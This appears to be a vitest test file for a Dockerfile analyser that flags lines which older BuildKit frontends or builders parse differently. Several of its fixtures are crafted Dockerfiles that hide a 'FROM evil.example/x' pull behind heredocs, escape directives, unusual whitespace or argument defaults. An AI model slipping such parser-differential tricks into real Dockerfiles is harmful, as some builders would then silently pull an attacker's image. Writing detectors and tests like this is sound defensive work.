// biome-ignore-all lint/suspicious/noTemplateCurlyInString: arguments of Dockerfiles
import { describe, expect, test } from 'vitest';
import { findFrontendDifferences } from '../../../src/core/dockerfile/frontend-difference.js';
import { encodeText, toByteString } from '../../../src/core/dockerfile/go/byte-string.js';
import { readDockerfile } from '../../../src/core/dockerfile/read-dockerfile.js';
import { findDirectives } from '../../../src/core/dockerfile/syntax/directives.js';
import { findOlderSyntaxes } from '../../../src/core/dockerfile/syntax/older-directives.js';
import { readText } from '../../support/repository.js';

const readLines = <Row>(name: string): Row[] =>
  readText(`__tests__/fixtures/older-frontends/${name}`)
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));

/** What each frontend's own `Dockerfile2LLB` asks a registry for, on linux/amd64; null where it refuses the file. */
interface FileAnswer {
  readonly text: string;
  readonly pulled: Readonly<Record<string, string | null>>;
}

const FILES = readLines<FileAnswer>('files.jsonl');
const NEWEST = '1.26';

const listDifferences = (text: string) => {
  const bytes = Buffer.from(text);
  return findFrontendDifferences(bytes, readDockerfile(bytes), readDockerfile);
};

describe('a frontend that pulls something else is told, and no other one', () => {
  test.each(FILES)('$text', ({ text, pulled }) => {
    const otherwise = Object.entries(pulled).filter(
      ([, images]) => images !== null && images !== pulled[NEWEST],
    );
    const told = Object.keys(pulled).filter(
      (version) => listDifferences(`# syntax=docker/dockerfile:${version}\n${text}`).length > 0,
    );
    expect(told).toEqual(otherwise.map(([version]) => version));
    // a builder may bring any of them
    if (otherwise.length > 0) expect(listDifferences(text)).toHaveLength(1);
    expect(listDifferences(`# syntax=docker/dockerfile:1\n${text}`)).toEqual([]);
  });

  test('all kinds of changes are among them', () => {
    const told = FILES.flatMap(({ text }) => listDifferences(text).map(({ since }) => since));
    expect([...new Set(told)].sort((one, other) => one - other)).toEqual([6, 7, 8, 11, 13]);
  });
});

test.each([
  // with no build that gives a value they mean the same everywhere
  'ARG TARGETARCH\nARG BUILDPLATFORM\nFROM --platform=$BUILDPLATFORM a AS b-amd64\nFROM b-${TARGETARCH}\n',
  'ARG TAG\nFROM node:${TAG:-22}\n',
  'ARG TAG=22\nARG TAG\nFROM node:22\n',
  'ARG VERSION=v22\nARG MAJOR=${VERSION#v}\nFROM node:${MAJOR}\n',
  '# check=skip=all\n# escape=\\\nFROM a\n',
])('nothing in %j where the builder has a frontend of its own', (text) => {
  expect(listDifferences(text)).toEqual([]);
});

test('a line is told that is the first to be read differently', () => {
  const [found] = listDifferences('ARG X=1\nARG A=busybox\n\nARG A\nFROM ${A:-evil.example/x}\n');
  expect(found).toMatchObject({
    line: 4,
    since: 11,
    message: 'set an argument that is declared without a value to nothing, and pull different images',
    others: [{ image: 'evil.example/x:latest', line: 5 }],
  });
});

/** The word that the builder's own `DetectSyntax` finds; null without one. */
interface TopAnswer {
  readonly text: string;
  readonly syntax: Readonly<Record<string, string | null>>;
}

/** The first version of BuildKit that finds it as the next one here does. */
const NEXT: Readonly<Record<string, string>> = {
  '0.10': '0.11',
  '0.12': '0.14',
  '0.14': '0.19',
  '0.18': '0.19',
  '0.21': '0.27',
};

describe('each builder takes the frontend from the line that it sees', () => {
  test.each(readLines<TopAnswer>('tops.jsonl'))('$text', ({ text, syntax }) => {
    const file = toByteString(Buffer.from(text));
    const current = findDirectives(file).syntax;
    const older = findOlderSyntaxes(file, current);
    const found = Object.keys(syntax).map((version) => {
      const own = older.find(({ before }) => before === NEXT[version]);
      return own === undefined ? (current?.word ?? null) : (own.found?.word ?? null);
    });
    expect(found).toEqual(Object.values(syntax).map((word) => (word === null ? null : encodeText(word))));
  });
});

test.each([
  ['#\u00a0syntax=docker/dockerfile:1\n', [3]],
  ['#\vsyntax=docker/dockerfile:1\n', [3]],
  ['\ufeff# syntax=docker/dockerfile:1\n', [3]],
  ['# check=skip=all\n# syntax=docker/dockerfile:1\n', [4]],
  ['#!/x\n# syntax=docker/dockerfile:1\n', [4]],
  ['# syntax=docker/dockerfile:1\n', []],
  ['# escape=\\\n# syntax=docker/dockerfile:1\n', []],
  // the last one of equal names, and others above it, count for some
  ['# syntax=docker/dockerfile:1\n# foo=bar\n# syntax=docker/dockerfile:1.4\n', [5]],
])('a frontend that some builders do not see leaves the file to their own: %j', (top, lines) => {
  const heredoc = 'FROM busybox\nRUN cat << #E\nFROM evil.example/x\n#E\n';
  const argument = 'FROM busybox\nFROM ${TARGETSTAGE:-evil.example/x}\n';
  expect(listDifferences(top + heredoc).map(({ line }) => line)).toEqual(lines);
  expect(listDifferences(top + argument).map(({ line }) => line)).toEqual(lines);
});

test.each([
  ['#\u00a0escape=`\nFROM busybox\nRUN a `\nFROM evil.example/x\n', [1]],
  ['#\u2003syntax=docker/dockerfile:1\n# escape=`\nFROM busybox\nRUN a `\nFROM evil.example/x\n', [1]],
  ['# syntax=docker/dockerfile:1.15\n#\vescape=`\nFROM busybox\nRUN a `\nFROM x\n', [2]],
  ['# syntax=docker/dockerfile:1.21\n#\vescape=`\nFROM busybox\nRUN a `\nFROM x\n', []],
  ['#\u00a0check=skip=all\nFROM busybox\nRUN a \\\nFROM evil.example/x\n', []],
  ['# check=skip=all\n# escape=`\nFROM busybox\nRUN a `\nFROM evil.example/x\n', [1]],
  // nothing else is pulled, or the file is refused
  ['# check=skip=all\n# escape=`\nFROM busybox\nCOPY a C:\\b\n', []],
  ['# check=skip=all\n# escape=`\nFROM busybox\nRUN a `\n  && b\n', []],
  ['#\u00a0escape=`\nFROM busybox\nRUN a\n', []],
  // what they see instead is read differently in turn
  ['# check=skip=all\n# escape=`\nFROM busybox\nRUN <<#E\nFROM evil.example/x\n#E\n', [1, 4]],
])('a directive after a space that older frontends do not know: %j', (text, lines) => {
  expect(listDifferences(text).map(({ line }) => line)).toEqual(lines);
});
